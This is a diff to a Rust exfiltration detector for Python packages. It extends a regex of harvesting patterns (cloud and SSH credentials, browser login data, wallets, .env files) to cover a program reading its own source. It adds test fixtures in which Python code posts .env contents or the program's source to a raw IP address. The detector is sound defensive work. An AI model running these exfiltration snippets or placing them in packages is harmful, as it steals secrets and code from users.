@@ -9,6 +9,9 @@
 //! system facts; so is an API URL template whose token is a format slot
 //! (`bot{0}/{1}`, `bot%s/`): exfiltration needs a sensitive source reaching the sink.
 //!
+//! Harvesting includes reading the importing program's own source (`open(sys.argv[0])`,
+//! `inspect.getsource(sys.modules['__main__'])`): code theft from whoever imports the package.
+//!
 //! Harvesting counts where it can run: Python code and strings, or a script (shell, batch,
 //! PowerShell, `#!`); a data file listing host names (a public-suffix list) harvests nothing.
 //!
@@ -40,7 +43,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 5,
+    revision: 6,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
@@ -78,7 +81,7 @@ static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
 });
 /// Harvesting in the same file: what an endpoint next to it would carry off.
 static HARVEST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)(?:dict|json\.dumps)\s*\(\s*os\.environ|\.(?:bash|zsh)_history|~[/\\]\.env(?-u:\b)|os\.environ\.(?:copy|items)|getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard").expect("harvest")
+    Regex::new(r"(?i)(?:dict|json\.dumps)\s*\(\s*os\.environ|\.(?:bash|zsh)_history|~[/\\]\.env(?-u:\b)|os\.environ\.(?:copy|items)|getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard|open\s*\([^)\n]*sys\.argv\s*\[\s*0|getsource\s*\(\s*(?:sys\.modules\s*\[\s*['\x22]__main__|__main__)").expect("harvest")
 });
 
 /// The URL's tail after the endpoint (`/123/abc` of a webhook), up to a quote or space.
@@ -565,6 +568,20 @@ mod tests {
                     InstallTime,
                     "import requests\nrequests.post('http://45.77.12.9:8000/u', data=open('.env').read())\n",
                     Some((2, "45.77.12.9 (raw IP) + requests.post", High)),
+                ),
+                (
+                    "the importing program's source posted to a raw IP",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import sys, requests\nsrc = open(os.path.abspath(sys.argv[0])).read()\nrequests.post('http://45.77.12.9:8080/s', data={'s': src})\n",
+                    Some((3, "45.77.12.9 (raw IP) + requests.post", High)),
+                ),
+                (
+                    "only the program's name reported to a raw IP stays medium",
+                    "pkg/telemetry.py",
+                    Runtime,
+                    "import sys, os, requests\nrequests.post('http://45.77.12.9:8080/s', data={'prog': os.path.basename(sys.argv[0])})\n",
+                    Some((2, "45.77.12.9 (raw IP) + requests.post", Medium)),
                 ),
                 (
                     "fetch from a raw IP without harvesting is left to the URL detectors",
